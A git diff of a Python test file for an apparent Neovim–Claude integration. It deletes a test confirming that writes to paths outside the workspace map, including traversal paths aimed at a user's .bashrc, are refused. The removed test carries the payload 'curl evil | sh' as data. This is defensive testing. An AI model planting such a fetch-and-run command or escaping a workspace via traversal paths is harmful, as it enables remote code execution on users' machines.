@@ -16,9 +16,7 @@ from pathlib import Path
 import pytest
 import trio
 
-from claude_nvim._paths import PathMap
 from claude_nvim._wire.constants import MODEL_PATH
-from claude_nvim._writes import WritesFeature
 from claude_nvim.testing import mcp_client, running_app
 from helpers import HookedClaude, edit, environment, eventually, messages, published_settings
 
@@ -288,31 +286,6 @@ async def test_a_remote_turns_revert_refuses_a_file_that_changed_here_since(
     with trio.fail_after(10):
         while made.exists() or edited.read_text() != "one\ntwo\nthree\n":
             await trio.sleep(0.02)
-
-
-# Writes the far side reports (a file's bytes for Neovim's buffer): WritesFeature.show, the door
-
-
-async def test_writes_reported_for_files_outside_the_map_change_nothing(
-        nvim_address, nvim, tmp_path, layout):
-    ws, home = layout
-    bashrc = home / ".bashrc"
-    await edit(nvim, bashrc)
-    await edit(nvim, ws / "a.py")
-    async with running_app(nvim_address, lock_directory=tmp_path / "ide", remote=True,
-                           paths=PathMap.parse([f"{CLAUDE}={ws}"])) as app:
-        (writes,) = [f for f in app.features if isinstance(f, WritesFeature)]
-        for path in (f"{CLAUDE}/../home/.bashrc", str(bashrc), f"{CLAUDE}/up/home/.bashrc"):
-            assert await writes.show(path, b"curl evil | sh\n") is None
-            writes.written(path)
-        assert await writes.show(f"{CLAUDE}/a.py", b"one\n2\nthree\n") is not None
-        await eventually(nvim, "return vim.fn.getbufline(vim.fn.bufnr(...), 2)[1] == '2'",
-                         str(ws / "a.py"))
-        bashrc_text = await nvim.exec_lua(
-            "local b = vim.fn.bufnr(...) return {vim.api.nvim_buf_get_lines(b, 0, -1, false),"
-            " vim.bo[b].modified}", str(bashrc))
-    assert bashrc_text == [["alias ls='ls -F'"], False]
-    assert bashrc.read_text() == "alias ls='ls -F'\n"
 
 
 async def test_without_a_map_claudes_here_reach_what_neovim_does_as_before(
